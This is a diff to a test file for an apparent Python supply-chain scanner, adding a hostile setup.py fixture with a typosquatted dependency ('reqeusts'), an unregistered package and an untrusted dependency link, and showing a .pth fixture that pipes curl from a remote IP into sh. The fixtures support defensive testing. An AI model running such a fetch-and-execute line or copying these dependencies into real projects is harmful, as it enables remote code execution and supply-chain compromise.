@@ -52,6 +52,8 @@ before(async () => {
   w('pkgs/garbage.tar.gz', Buffer.from('not really gzip'));
   w('names/reqeusts-2.31.0-py3-none-any.whl', zipSync({ 'reqeusts/__init__.py': new TextEncoder().encode('print("hi")\n') }));
   w('names/requests-2.31.0-py3-none-any.whl', zipSync({ 'requests/__init__.py': new TextEncoder().encode('print("hi")\n') }));
+  w('setups/hostile/setup.py', 'from setuptools import setup\nsetup(\n    name="helper",\n    install_requires=["requests", "reqeusts", "nobody-registered-this-zq"],\n    dependency_links=["http://203.0.113.5/pkgs"],\n)\n');
+  w('setups/honest/setup.py', 'from setuptools import setup\nsetup(name="tool", install_requires=["requests>=2", "django==2.2.0", "numpy"])\n');
   w('names/matplotlbi-3.8.0.tar.gz', await tarGz({ 'matplotlbi-3.8.0/setup.py': 'print(1)\n' }));
   // .pth start-up files: site.py runs their `import` lines at every interpreter start; other lines are paths
   const pth = '# a comment\n/opt/extra/lib\nimport os; os.system("curl -s http://203.0.113.9/x | sh")\nos.system("never run: not an import line")\n';
@@ -110,6 +112,15 @@ test("an archive named one slip from a popular project is a typosquat, cached or
   assert.equal(distributionNameOf('dir/python_dateutil-2.9.0.post0-py2.py3-none-any.whl'), 'python_dateutil');
   assert.equal(distributionNameOf('Django-4.2.tar.gz'), 'Django');
   assert.equal(distributionNameOf('notes.zip'), undefined);
+});
+
+test('a setup.py declaring look-alike or unregistered dependencies or an untrusted link is flagged by the scan; old pins are not', async () => {
+  const hostile = await scanPaths(['setups/hostile'], { cwd: dir, cache: false });
+  const dep = hostile.findings.filter((f) => f.ruleId.startsWith('dep-')).map((f) => `${f.ruleId}:${f.severity}:${f.line}`).sort();
+  assert.deepEqual(dep, ['dep-typosquat:high:4', 'dep-unknown-package:medium:4', 'dep-untrusted-source:high:5'], 'the link names another source, so an unknown name may come from it');
+  assert.ok(hostile.findings.find((f) => f.ruleId === 'dep-typosquat')!.snippet.includes('reqeusts'));
+  const honest = await scanPaths(['setups/honest'], { cwd: dir, cache: false });
+  assert.deepEqual(honest.findings.filter((f) => f.ruleId.startsWith('dep-')), []);
 });
 
 test('.pth start-up files: their import lines are scanned as code at their own line, other lines are not', async () => {
